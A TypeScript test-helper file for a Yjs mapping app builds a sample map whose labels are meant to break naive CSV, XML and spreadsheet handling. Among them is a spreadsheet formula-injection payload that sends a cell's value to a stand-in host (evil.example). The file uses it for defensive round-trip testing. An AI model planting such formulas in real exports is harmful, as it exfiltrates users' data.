// Helpers for the format tests: a map with every kind of value and hostile labels, and an
// import into a fresh document.
import * as Y from 'yjs'
import { addEdge, addNode, setMapInfo } from '../doc/mutations.ts'
import { type MapModel, readMap } from '../doc/read-map.ts'
import {
  EDGE_DIRECTIONS,
  EDGE_KINDS,
  EDGE_STATUSES,
  EDGE_STRENGTHS,
  NODE_KINDS,
  SECTORS,
  THEMES,
} from '../schema/vocabulary.ts'
import { applyImportPlan } from './apply-import.ts'
import type { ImportPlan } from './import-plan.ts'

/**
 * Labels that break naive CSV, XML and spreadsheet handling. Imports trim labels, so surrounding
 * whitespace is not part of the exact round trip (a leading tab is tested in the hostile tests).
 */
export const HOSTILE_LABELS = [
  '=HYPERLINK("http://evil.example/?q="&A1;"klick")',
  '+49 221 123',
  '-5',
  '@SUM(A1:A2)',
  'Tab\tmittendrin',
  '＝ Vollbreite',
  'Schließen </data> ]]> & <b>fett</b> "Zitat" \'einfach\'',
  'Semikolon; Komma, Pipe | Ende',
  'Zeile 1\nZeile 2',
  'Bewohner*innen-Café Köln-Mülheim 😀',
] as const

/** A map with every node kind, sector, theme, edge kind and status, and hostile labels. */
export function sampleDoc(labels: readonly string[] = HOSTILE_LABELS): Y.Doc {
  const doc = new Y.Doc()
  setMapInfo(doc, { title: 'Mülheim-Nord & Umgebung', area: 'Köln-Mülheim' })
  const ids = labels.map((label, i) =>
    addNode(doc, {
      label,
      kind: NODE_KINDS[i % NODE_KINDS.length] ?? 'provider',
      position: { x: i * 97.25 - 300, y: (i % 3) * 45.5 - 20 },
      ...(i % 4 === 3 ? {} : { sector: SECTORS[i % SECTORS.length] }),
      ...(i % 3 === 2
        ? {}
        : {
            themes: [
              THEMES[i % THEMES.length] ?? 'health',
              THEMES[(i + 3) % THEMES.length] ?? 'income',
            ],
          }),
      // Schema v2 details on most actors, hostile text included.
      ...(i % 5 === 4
        ? {}
        : {
            description: `Beschreibung ${i}: ${labels[(i + 2) % labels.length]}`,
            planningArea: `PLR ${i}; Köln-Mülheim`,
            website: `https://example.org/akteur/${i}?a=1&b=<${i}>`,
            contact: `Frau Müller-${i}, +49 221 ${i}`,
          }),
    }),
  )
  ids.forEach((source, i) => {
    const target = ids[(i + 1) % ids.length]
    const other = ids[(i + 4) % ids.length]
    if (target)
      addEdge(doc, {
        source,
        target,
        kind: EDGE_KINDS[i % EDGE_KINDS.length] ?? 'cooperation',
        status: EDGE_STATUSES[i % 2],
        strength: EDGE_STRENGTHS[i % 3],
        direction: EDGE_DIRECTIONS[i % EDGE_DIRECTIONS.length],
        ...(i % 3 === 1 ? {} : { note: `Notiz ${i}: ${labels[i]}` }),
      })
    if (other && i % 2 === 0)
      addEdge(doc, { source, target: other, kind: 'exchange', status: 'planned' })
  })
  return doc
}

/** Applies a plan to an empty document and reads the result. */
export function importIntoEmpty(plan: ImportPlan, includeMeta = false): MapModel {
  const doc = new Y.Doc()
  const report = applyImportPlan(doc, plan, { duplicates: 'merge', includeMeta })
  if (!report.applied) throw new Error(JSON.stringify(plan.problems))
  return readMap(doc)
}

/** A model without the parts a format cannot carry, for comparison. */
export function comparable(model: MapModel, options: { meta?: boolean } = {}): unknown {
  return {
    ...(options.meta ? { meta: model.meta } : {}),
    nodes: model.nodes.map((n) => ({
      ...n,
      themes: n.themes?.length ? [...n.themes].sort() : undefined,
    })),
    edges: model.edges,
  }
}
